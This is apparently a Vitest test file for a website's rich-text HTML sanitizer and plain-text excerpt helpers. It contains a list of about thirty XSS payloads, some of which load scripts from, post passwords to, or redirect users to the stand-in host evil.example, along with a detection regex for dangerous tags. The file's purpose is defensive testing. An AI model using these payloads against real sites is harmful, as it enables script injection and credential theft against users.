import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { safeHtml, sanitizeRichText } from '#functions/richtext/sanitize.ts';
import { excerpt, plainText } from '#functions/richtext/text.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/images/1" onload="alert(1)">',
  '<img src="https://evil.example/track.gif">',
  '<img src="//evil.example/track.gif">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<form action="https://evil.example"><input name=password></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '"><img src=x onerror=alert(1)>',
  '<!--><script>alert(1)</script>-->',
];

/** Every tag that a browser could see in the text: nothing else can act. */
const tags = (html: string) => html.match(/<[^>]*>/g) ?? [];
const harmful =
  /^<\/?(?:script|style|iframe|object|embed|svg|math|form|input|meta|base|template|textarea|noscript|link)|\son\w+\s*=|\sstyle\s*=|javascript:|vbscript:|data:|srcdoc|(?:src|href)="(?:https?:)?\/\/evil/i;

describe('D-60 rich text can do no harm', () => {
  it.each(attacks)('%j loses what could act', (html) => {
    expect(tags(sanitizeRichText(html)).filter((tag) => harmful.test(tag))).toEqual([]);
  });

  it('whatever is mixed together, nothing that could act comes through, also not at a second cleaning', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks, '<', '>', '"', "'", '<p', '</', '&lt;', '<!--'),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const clean = sanitizeRichText(pieces.join(''));
        expect(tags(clean).filter((tag) => harmful.test(tag))).toEqual([]);
        expect(tags(safeHtml(clean)).filter((tag) => harmful.test(tag))).toEqual([]);
      }),
    );
  });

  it('text, links, lists, tables and pictures of this site stay', () => {
    const html =
      '<h2>Title</h2><p>One <strong>two</strong> <a href="/jobs">three</a></p><ul><li>x</li></ul>' +
      '<table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>';
    expect(sanitizeRichText(html)).toBe(html);
    expect(sanitizeRichText('<img src="/images/1" alt="A graph">')).toContain(
      'src="/images/1" alt="A graph"',
    );
    expect(sanitizeRichText('<a href="mailto:info@example.org">mail</a>')).toContain(
      'mailto:info@example.org',
    );
  });

  it('a link to another site says noopener and nofollow, one to this site does not', () => {
    expect(sanitizeRichText('<a href="https://example.org">x</a>')).toContain(
      'rel="noopener nofollow"',
    );
    expect(sanitizeRichText('<a href="/news" rel="nofollow">x</a>')).toBe('<a href="/news">x</a>');
  });
});

describe('the words of rich text', () => {
  it.each([
    ['<p>One</p><p>two</p>', 'One two'],
    ['a<br>b', 'a b'],
    ['Erd&ouml;s &amp; R&#233;nyi', 'Erd&ouml;s & Rényi'],
    ['&#x4e;etwork &lt;b&gt;', 'Network <b>'],
    ['su<strong>per</strong>script', 'superscript'],
    ['  many \n\n spaces&nbsp;here ', 'many spaces here'],
    ['&#99999999;&#0;x', 'x'],
    ['', ''],
  ])('%j reads %j', (html, expected) => {
    expect(plainText(html)).toBe(expected);
  });

  it('an excerpt is cut at a word and not longer than asked, plus its ellipsis', () => {
    expect(excerpt('short', 10)).toBe('short');
    expect(excerpt('one two three four', 12)).toBe('one two …');
    fc.assert(
      fc.property(
        fc.string({ maxLength: 300 }),
        fc.integer({ min: 2, max: 100 }),
        (text, length) => {
          expect(excerpt(text, length).length).toBeLessThanOrEqual(Math.max(length + 2, 0));
        },
      ),
    );
  });
});
